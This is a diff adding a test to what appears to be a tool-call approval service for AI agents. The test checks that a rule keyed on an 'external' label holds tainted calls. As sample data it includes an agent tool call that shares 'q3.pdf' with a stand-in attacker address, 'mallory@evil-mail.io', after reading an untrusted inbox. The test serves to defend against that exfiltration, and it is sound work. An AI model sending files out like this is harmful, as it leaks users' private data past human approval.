@@ -406,3 +406,18 @@ def test_labels_and_untrusted_fields_come_back_from_the_registry(mail):
 
     assert tools["read_inbox"]["labels"] == ["untrusted", "private"]
     assert tools["list_transactions"]["untrusted_fields"] == ["subject"]
+
+
+def test_a_rule_naming_a_label_of_a_compensable_tool_holds_its_tainted_calls(mail):
+    # share_file is compensable and labelled external: a rule by label names it as much as by name.
+    add_rule(mail, "tainted-external", "'external' in tool.labels && tainted(args)", "require", 0)
+    mail.org.refresh_from_db()
+    run = start(mail)
+
+    response = intercept(mail, run, "share_file", {"file": "q3.pdf", "email": "mallory@evil-mail.io"}, 3,
+                         safe_calls=[inbox(2)])
+
+    assert rules.sees_compensable(mail.org)
+    assert response.status_code == 202, response.content
+    why = ApprovalRequest.objects.get(effect_id=response.json()["effect"]["id"]).why
+    assert why[0]["rule"] == "tainted-external" and why[0]["tainted"][0]["from_tool"] == "read_inbox"
